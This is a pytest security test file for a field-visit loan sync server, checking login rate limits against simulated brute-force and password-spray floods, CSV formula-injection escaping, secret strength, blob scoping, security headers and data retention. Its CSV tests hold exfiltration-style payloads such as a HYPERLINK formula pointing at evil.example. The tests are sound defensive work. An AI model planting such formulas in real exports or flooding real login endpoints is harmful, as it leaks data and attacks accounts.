"""Security (protocol v1.1 "Security", blob scope, restore under a running server, retention R-8/D-4).

The sign-in floods run against a real `fieldvisit serve` process with hundreds of simultaneous requests from
several loopback addresses, as an attacker would send them.
"""

from __future__ import annotations

import asyncio
import csv
import hashlib
import hmac
import io
import json
import os
import socket
import sqlite3
import subprocess
import sys
import time
from collections import Counter
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import httpx
import pytest
from fastapi.testclient import TestClient
from pydantic import ValidationError

from sync.server import Settings, create_app
from sync.server.desk.csvsafe import safe_cell
from sync.server.security import token_digest
from sync.server.store.retention import apply_retention

from .conftest import Server, example_report, fast_settings, mutation, push

ROOT = Path(__file__).resolve().parents[2]
PASSWORD = "right-horse-battery"


def _cli(*args: str, env: dict[str, str] | None = None) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "cli.main", *args],
        cwd=ROOT,
        capture_output=True,
        text=True,
        env=env,
        timeout=120,
    )


def _free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return int(s.getsockname()[1])


# ------------------------------------------------------------------------------------ 1. sign-in limits


@pytest.fixture
def central(tmp_path: Path) -> Iterator[str]:
    """`fieldvisit serve` on a fresh database with two accounts; yields its URL."""
    db = tmp_path / "central.db"
    for name in ("inv.target", "inv.other"):
        done = _cli("users", "add", name, "--password", PASSWORD, "--role", "investigator", "--team", "t",
                    "--db", str(db))  # fmt: skip
        assert done.returncode == 0, done.stderr
    port = _free_port()
    env = dict(os.environ, FIELDVISIT_DB=str(db))
    proc = subprocess.Popen(
        [sys.executable, "-m", "cli.main", "serve", "--host", "127.0.0.1", "--port", str(port)],
        cwd=ROOT,
        env=env,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
    url = f"http://127.0.0.1:{port}"
    try:
        deadline = time.monotonic() + 30
        while True:
            try:
                httpx.get(f"{url}/v1/health", timeout=1)
                break
            except httpx.TransportError:
                assert proc.poll() is None and time.monotonic() < deadline, "server did not start"
                time.sleep(0.2)
        yield url
    finally:
        proc.terminate()
        proc.wait(timeout=20)


async def _flood(url: str, bodies: list[dict[str, str]], addresses: list[str]) -> list[httpx.Response]:
    """Send every body at once, spread over client source addresses (all loopback)."""
    limits = httpx.Limits(max_connections=len(bodies), max_keepalive_connections=0)
    clients = [
        httpx.AsyncClient(
            base_url=url,
            timeout=120,
            transport=httpx.AsyncHTTPTransport(local_address=a, limits=limits),
        )
        for a in addresses
    ]
    try:
        return list(
            await asyncio.gather(
                *(
                    clients[i % len(clients)].post("/v1/auth/login", json=body)
                    for i, body in enumerate(bodies)
                )
            )
        )
    finally:
        for c in clients:
            await c.aclose()


def _login(username: str, password: str = PASSWORD) -> dict[str, str]:
    return {"username": username, "password": password, "device_name": "flood"}


def test_login_flood_gets_only_the_limit_of_401s_when_200_wrong_passwords_race_from_many_addresses(
    central: str,
) -> None:
    wrong = [_login("inv.target", f"guess-{i}") for i in range(200)]
    addresses = [f"127.0.0.{n}" for n in range(2, 10)]

    answers = asyncio.run(_flood(central, wrong, addresses))

    codes = Counter(r.status_code for r in answers)
    assert codes == {401: 5, 429: 195}
    assert all(int(r.headers["retry-after"]) >= 1 for r in answers if r.status_code == 429)
    # The account is held across addresses, even with the right password.
    right = httpx.post(f"{central}/v1/auth/login", json=_login("inv.target"), timeout=30)
    assert right.status_code == 429 and right.json()["error"] == "too_many_requests"


def test_login_flood_stops_at_30_failures_per_address_when_usernames_differ(central: str) -> None:
    sprayed = [_login(f"nobody-{i}", "guess") for i in range(200)]

    answers = asyncio.run(_flood(central, sprayed, ["127.0.0.20"]))

    assert Counter(r.status_code for r in answers) == {401: 30, 429: 170}
    from_there = httpx.Client(transport=httpx.HTTPTransport(local_address="127.0.0.20"), timeout=30)
    elsewhere = httpx.Client(transport=httpx.HTTPTransport(local_address="127.0.0.21"), timeout=30)
    assert from_there.post(f"{central}/v1/auth/login", json=_login("inv.other")).status_code == 429
    assert elsewhere.post(f"{central}/v1/auth/login", json=_login("inv.other")).status_code == 200


def test_login_signs_in_every_request_when_one_account_signs_in_concurrently_with_its_password(
    central: str,
) -> None:
    answers = asyncio.run(_flood(central, [_login("inv.other") for _ in range(12)], ["127.0.0.30"]))

    assert [r.status_code for r in answers] == [200] * 12
    assert len({r.json()["device_id"] for r in answers}) == 12


# ------------------------------------------------------------------------------- 2. CSV formula cells


@pytest.mark.parametrize(
    ("value", "money", "written"),
    [
        (
            '=HYPERLINK("http://x.example/?"&A1,"click")',
            False,
            '\'=HYPERLINK("http://x.example/?"&A1,"click")',
        ),
        ("+1+1", False, "'+1+1"),
        ("@SUM(1+1)", False, "'@SUM(1+1)"),
        ("-2+3", False, "'-2+3"),
        ("  =1+1", False, "'  =1+1"),
        ("\t=1+1", False, "'\t=1+1"),
        ("\r=1+1", False, "'\r=1+1"),
        ("-120.50", True, "-120.50"),
        ("-120.50", False, "'-120.50"),
        ("-1+1", True, "'-1+1"),
        ("同意分期 =1", False, "同意分期 =1"),
        ("1100.16", True, "1100.16"),
    ],
)
def test_csv_cell_is_prefixed_with_apostrophe_when_a_spreadsheet_would_read_a_formula(
    value: str, money: bool, written: str
) -> None:
    assert safe_cell(value, money=money) == written


def test_risk_csv_neutralises_comment_and_external_id_when_they_look_like_formulas(server: Server) -> None:
    vid = server.new_visit(
        product_type="consumer_instalment",
        outstanding_principal="20000.00",
        monthly_rate="0.015",
        external_id="=2+5",
    )
    rep = example_report(vid)
    assert push(server, "inv.a1", [mutation(1, rep)]).json()["results"][0]["status"] == "applied"
    comment = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    ok = server.client.post(
        f"/v1/reports/{rep['report_id']}/review",
        headers={**server.h("sup.a"), "If-Match": '"v1"'},
        json={"action": "approve", "comment": comment},
    )
    assert ok.status_code == 200, ok.text

    text = server.client.get("/v1/exports/risk.csv", headers=server.h("sup.a")).text

    row = next(csv.DictReader(io.StringIO(text.lstrip("\ufeff"))))
    assert row["external_id"] == "'=2+5"
    assert row["comment"] == "'" + comment
    assert row["principal"] == "12000.00"
    assert not any(v.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r")) for v in row.values())


# ---------------------------------------------------------------------- 3. restore under a running server


def test_restore_is_refused_and_changes_nothing_when_a_server_runs_on_the_database(tmp_path: Path) -> None:
    db, copy = tmp_path / "live.db", tmp_path / "backup.db"
    settings = fast_settings(db)
    with TestClient(create_app(settings)) as c:
        epoch = c.get("/v1/health").json()["server_epoch"]
        assert _cli("backup", str(copy), "--db", str(db)).returncode == 0
        later = _cli("users", "add", "sup.late", "--password", "pw", "--role", "supervisor", "--team", "t",
                     "--db", str(db))  # fmt: skip
        assert later.returncode == 0, later.stderr

        refused = _cli("restore", str(copy), "--db", str(db))

        assert refused.returncode != 0
        assert "running server" in refused.stderr and "Nothing was changed" in refused.stderr
        assert c.get("/v1/health").json()["server_epoch"] == epoch
        signed_in = c.post(
            "/v1/auth/login", json={"username": "sup.late", "password": "pw", "device_name": "d"}
        )
        assert signed_in.status_code == 200 and signed_in.json()["server_epoch"] == epoch
    with sqlite3.connect(db) as conn:
        assert conn.execute("SELECT value FROM meta WHERE key = 'server_epoch'").fetchone()[0] == epoch
    restored = _cli("restore", str(copy), "--db", str(db))
    assert restored.returncode == 0, restored.stderr
    with TestClient(create_app(settings)) as c:
        assert c.get("/v1/health").json()["server_epoch"] not in ("", epoch)


# --------------------------------------------------------------------------------- 4. production secret


@pytest.mark.parametrize(
    "secret",
    ["a" * 32, "password" * 4, "0123456789abcdef" * 2, "Tr0ub4dor&3-xyzQ" * 3, "short-but-Varied-1234567"],
)
def test_production_refuses_secret_when_short_low_variety_or_repeated(tmp_path: Path, secret: str) -> None:
    with pytest.raises(ValidationError, match="FIELDVISIT_SECRET is refused"):
        Settings(db=str(tmp_path / "p.db"), env="production", secret=secret)


def test_serve_exits_with_the_reason_when_production_secret_is_weak(tmp_path: Path) -> None:
    env = dict(os.environ, FIELDVISIT_ENV="production", FIELDVISIT_SECRET="password" * 4)
    done = _cli("serve", "--port", str(_free_port()), "--db", str(tmp_path / "p.db"), env=env)
    assert done.returncode != 0 and "fewer than 16 distinct characters" in done.stderr


def test_production_accepts_secret_when_random(tmp_path: Path) -> None:
    ok = Settings(db=str(tmp_path / "p.db"), env="production", secret="kQ3v-Zp8Lr2Wm9Xc4Tb7Yn1Hd6Jf0Gs5Ue")
    assert ok.effective_secret.startswith("kQ3v")


# --------------------------------------------------------------------------------- 5. blob scope on HEAD


def _report_with_photo(
    server: Server, data: bytes, kind: str = "visit_photo", **visit: Any
) -> dict[str, Any]:
    sha = hashlib.sha256(data).hexdigest()
    rep = example_report(server.new_visit(**visit))
    rep["attachments"] = [{"sha256": sha, "kind": kind, "mime": "image/jpeg", "size_bytes": len(data)}]
    assert push(server, "inv.a1", [mutation(len(server._made), rep, blobs=[sha])]).status_code == 200
    assert server.client.put(f"/v1/blobs/{sha}", content=data, headers=server.h("inv.a1")).status_code == 201
    return rep


def test_blob_head_is_404_without_length_when_the_blob_is_another_teams(server: Server) -> None:
    data = b"\xff\xd8 a borrower's living room"
    sha = hashlib.sha256(data).hexdigest()
    _report_with_photo(server, data)

    for outsider in ("sup.b", "inv.b1", "inv.a3"):
        r = server.client.head(f"/v1/blobs/{sha}", headers=server.h(outsider))
        assert r.status_code == 404 and r.headers.get("content-length", "0") == "0"
    own = server.client.head(f"/v1/blobs/{sha}", headers=server.h("sup.a"))
    assert own.status_code == 200 and own.headers["content-length"] == str(len(data))
    # PUT of the same bytes follows GET's scope rules: 404 outside the scope, 200 (already present) within.
    for outsider in ("sup.b", "inv.b1", "inv.a3"):
        r = server.client.put(f"/v1/blobs/{sha}", content=data, headers=server.h(outsider))
        assert r.status_code == 404 and r.json()["error"] == "not_found"
    assert server.client.put(f"/v1/blobs/{sha}", content=data, headers=server.h("inv.a2")).status_code == 200
    assert server.client.put(f"/v1/blobs/{sha}", content=data, headers=server.h("sup.a")).status_code == 200


# ------------------------------------------------------------------------------------ 6. security headers


def test_every_response_carries_nosniff_and_no_referrer_and_pages_a_csp(tmp_path: Path) -> None:
    with TestClient(create_app(fast_settings(tmp_path / "h.db"))) as c:
        answers = {
            "desk": c.get("/desk/"),
            "docs": c.get("/docs"),
            "health": c.get("/v1/health"),
            "401": c.get("/v1/reports"),
            "404": c.get("/nowhere"),
            "js": c.get("/desk/desk.js"),
            "login": c.post(
                "/v1/auth/login", json={"username": "nobody", "password": "x", "device_name": "d"}
            ),
        }
    for name, r in answers.items():
        assert r.headers["x-content-type-options"] == "nosniff", name
        assert r.headers["referrer-policy"] == "no-referrer", name
    for page in ("desk", "docs"):
        csp = {
            d.strip().split(" ")[0]: d.strip()
            for d in answers[page].headers["content-security-policy"].split(";")
        }
        assert csp["default-src"] == "default-src 'self'"
        assert csp["frame-ancestors"] == "frame-ancestors 'none'"
        assert csp["object-src"] == "object-src 'none'"
        assert "'unsafe-inline'" not in csp.get("script-src", "")
    assert "content-security-policy" not in answers["health"].headers


def test_unexpected_500_carries_the_security_headers(tmp_path: Path) -> None:
    app = create_app(fast_settings(tmp_path / "e.db"))

    @app.get("/boom")
    async def boom() -> None:
        raise RuntimeError("boom")

    with TestClient(app, raise_server_exceptions=False) as c:
        r = c.get("/boom")
    assert r.status_code == 500
    assert r.headers["x-content-type-options"] == "nosniff" and r.headers["referrer-policy"] == "no-referrer"


# ----------------------------------------------------------------------------------------- 8. retention


def _approve(server: Server, rep: dict[str, Any], comment: str) -> None:
    r = server.client.post(
        f"/v1/reports/{rep['report_id']}/review",
        headers={**server.h("sup.a"), "If-Match": '"v1"'},
        json={"action": "approve", "comment": comment},
    )
    assert r.status_code == 200, r.text


def _audit(server: Server, action: str) -> list[dict[str, Any]]:
    db = server.client.app.state.ctx.db  # type: ignore[attr-defined]
    return db.read_sync(lambda d: list(d.query("SELECT * FROM audit WHERE action = ? ORDER BY id", [action])))


def test_retention_deletes_documents_then_anonymises_decided_cases_when_their_periods_pass(
    server: Server,
) -> None:
    db = server.client.app.state.ctx.db  # type: ignore[attr-defined]
    start = datetime(2026, 11, 20, 4, 0, tzinfo=UTC)  # the fixture's clock
    loan = {
        "product_type": "consumer_instalment",
        "outstanding_principal": "20000.00",
        "monthly_rate": "0.015",
    }
    decided = _report_with_photo(server, b"photo of the door", **loan)
    payslip = hashlib.sha256(b"payslip scan").hexdigest()
    decided_with_doc = example_report(server.new_visit(**loan), notes="借款人说邻居王某可作证")
    decided_with_doc["attachments"] = [
        {"sha256": payslip, "kind": "payslip", "mime": "image/jpeg", "size_bytes": 12}
    ]
    assert (
        push(server, "inv.a1", [mutation(len(server._made), decided_with_doc, blobs=[payslip])]).status_code
        == 200
    )
    server.client.put(f"/v1/blobs/{payslip}", content=b"payslip scan", headers=server.h("inv.a1"))
    _approve(server, decided, "同意分期 13800001111")
    _approve(server, decided_with_doc, "同意")
    pending = _report_with_photo(server, b"photo awaiting review", **loan)
    stray = b"uploaded, never referenced"
    server.client.put(
        f"/v1/blobs/{hashlib.sha256(stray).hexdigest()}", content=stray, headers=server.h("inv.a1")
    )
    run = {"record_days": 1827, "document_days": 90}

    def blobs() -> set[str]:
        return db.read_sync(lambda d: {r[0] for r in d.execute("SELECT sha256 FROM blobs")})

    def visit(report: dict[str, Any]) -> dict[str, Any]:
        return db.read_sync(
            lambda d: next(d.query("SELECT * FROM visits WHERE id = ?", [report["visit_id"]]))
        )

    photo = decided["attachments"][0]["sha256"]
    dry = db.write_sync(apply_retention, now=start + timedelta(days=100), dry_run=True, **run)
    assert (dry["documents_deleted"], dry["unreferenced_deleted"]) == (1, 1) and payslip in blobs()

    # After 100 days: the payslip and the stray upload go; the record and its photos stay.
    first = db.write_sync(apply_retention, now=start + timedelta(days=100), **run)

    assert (first["documents_deleted"], first["unreferenced_deleted"], first["cases_anonymised"]) == (1, 1, 0)
    assert payslip not in blobs() and photo in blobs()
    assert next((a["entity_id"], json.loads(a["detail"])) for a in _audit(server, "retention.delete")) == (
        payslip,
        {"reason": "document_period", "kind": "payslip"},
    )

    # Five years and a month later: the decided cases are anonymised, the one awaiting review stays whole.
    later = db.write_sync(apply_retention, now=start + timedelta(days=1827 + 30), **run)

    assert later["cases_anonymised"] == 2 and later["reports_anonymised"] == 2 and photo not in blobs()
    gone = visit(decided)
    assert gone["external_id"] == f"anon-{gone['id']}" and gone["borrower_name"] == ""
    case = json.loads(gone["data"])
    assert case["borrower"] == {"district": case["borrower"]["district"]} and "phone" not in gone["data"]
    assert case["loan"]["outstanding_principal"] == "20000.00"
    detail = server.client.get(
        f"/v1/reports/{decided_with_doc['report_id']}", headers=server.h("sup.a")
    ).json()
    assert "王某" not in json.dumps(detail, ensure_ascii=False) and detail["report"]["attachments"] == []
    assert detail["report"]["plan"]["principal"] == "12000.00" and detail["status"] == "approved"
    feed = server.client.get("/v1/exports/risk.csv", headers=server.h("sup.a")).text
    assert "13800001111" not in feed and "anon-" in feed
    kept = visit(pending)
    assert not kept["external_id"].startswith("anon-") and kept["borrower_name"]
    assert pending["attachments"][0]["sha256"] in blobs()
    assert sorted(a["entity_id"] for a in _audit(server, "retention.anonymise")) == sorted(
        [decided["visit_id"], decided_with_doc["visit_id"]]
    )
    assert len(_audit(server, "retention.run")) == 2
    again = db.write_sync(apply_retention, now=start + timedelta(days=1827 + 31), **run)
    assert again["cases_anonymised"] == 0


def test_retention_command_reports_what_it_did_and_refuses_a_record_period_under_five_years(
    tmp_path: Path,
) -> None:
    db = tmp_path / "r.db"
    done = _cli("retention", "--db", str(db))
    assert done.returncode == 0, done.stderr
    assert "0 reports were anonymised" in done.stdout
    short = dict(os.environ, FIELDVISIT_RETENTION_RECORD_DAYS="365")
    refused = _cli("retention", "--db", str(db), env=short)
    assert refused.returncode != 0 and "1827" in refused.stderr


def test_a_token_is_stored_as_its_hmac_sha256_under_the_server_secret() -> None:
    for secret, token in (
        ("s" * 40, "abc"),
        ("another-secret-of-enough-length-1234", "abc"),
        ("s" * 40, "xyz"),
    ):
        assert (
            token_digest(secret, token)
            == hmac.new(secret.encode(), token.encode(), hashlib.sha256).hexdigest()
        )
